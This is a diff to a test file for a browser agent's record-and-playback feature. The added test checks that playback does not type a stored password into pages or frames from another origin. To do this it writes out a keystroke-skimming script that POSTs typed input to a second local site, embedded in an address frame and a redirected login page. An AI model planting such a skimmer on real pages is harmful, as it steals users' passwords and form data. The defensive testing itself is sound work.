@@ -1,5 +1,4 @@
-import { type Agent, connect, expect, front, type Page, test, until } from "./support/fixtures.ts";
-import type { Site } from "./support/site.ts";
+import { type Agent, connect, expect, front, type Page, Site, test, until } from "./support/fixtures.ts";
 
 test.use({ pilot: true });
 
@@ -190,7 +189,7 @@ test("a changed page is played by other locators, which are told; what is gone f
   const state = await end(tab);
   const values = { Password: "opensesame" };
   const play = (more: object = {}) =>
-    agent.json<Played>("configure", { action: "playback", recording_id, values, step_timeout_ms: 3000, ...more });
+    agent.json<Played>("configure", { action: "playback", recording_id, values, step_timeout_ms: 5000, ...more });
 
   // Other ids and classes are no matter: names stay.
   serve(site, (name) => `v2-${name}`);
@@ -219,6 +218,41 @@ test("a changed page is played by other locators, which are told; what is gone f
   const stopped = await play({ continue_on_error: false });
   expect(stopped).toMatchObject({ status: "failed", actions_executed: 10, actions_failed: 1, actions_total: 12 });
   expect(await end(tab)).toMatchObject({ paid: "" });
+});
+
+test("a page that leads elsewhere chooses no site and no frame where a playback types", async ({
+  site,
+  tab,
+  agent,
+}) => {
+  test.setTimeout(120_000);
+  await tab.goto(serve(site));
+  const { recording_id } = await record(agent, tab, "shopping");
+  const values = { Password: "opensesame" };
+  const play = () =>
+    agent.json<Played>("configure", { action: "playback", recording_id, values, step_timeout_ms: 5000 });
+  const elsewhere = await Site.start();
+  try {
+    const typed = "addEventListener('input', (e) => fetch('/typed', { method: 'POST', body: e.target.value }))";
+    const script = { body: typed, type: "text/javascript" };
+    elsewhere.page("/typed.js", script);
+    elsewhere.page("/typed", "");
+    const spy = "<script src=/typed.js></script>";
+    const address = elsewhere.page("/address", ADDRESS + spy);
+    const got = (): string[] => elsewhere.hits.filter(({ url }) => url === "/typed").map(({ body }) => body);
+
+    site.page("/shop", shop((name) => name).replace("/address", address));
+    const framed = await play();
+    expect(framed.results[3]).toMatchObject({ status: "failed", error: "other_origin" });
+    expect(got()).toEqual([]);
+
+    site.page("/login", { status: 302, headers: { location: elsewhere.page("/login", LOGIN + spy) } });
+    const led = await play();
+    expect(led.results[1]).toMatchObject({ status: "failed", error: "other_origin" });
+    expect(got()).toEqual([]);
+  } finally {
+    await elsewhere.stop();
+  }
 });
 
 test("the logs of a recording and of a playback are compared by what they say, not by the times in them", async ({
@@ -337,7 +371,7 @@ test("a saved sequence is carried out in the browser, with other steps where the
     { action: "select", selector: "label=Size", value: "Small" },
     { action: "click", selector: "#none" },
   ];
-  const partial = await agent.json("configure", { ...replay, override_steps, step_timeout_ms: 600 });
+  const partial = await agent.json("configure", { ...replay, override_steps, step_timeout_ms: 5000 });
   expect(partial).toMatchObject({ status: "partial", steps_executed: 3, steps_failed: 1 });
   expect(await end(tab)).toMatchObject({ size: "Small", count: "1", paid: "paid" });
 });
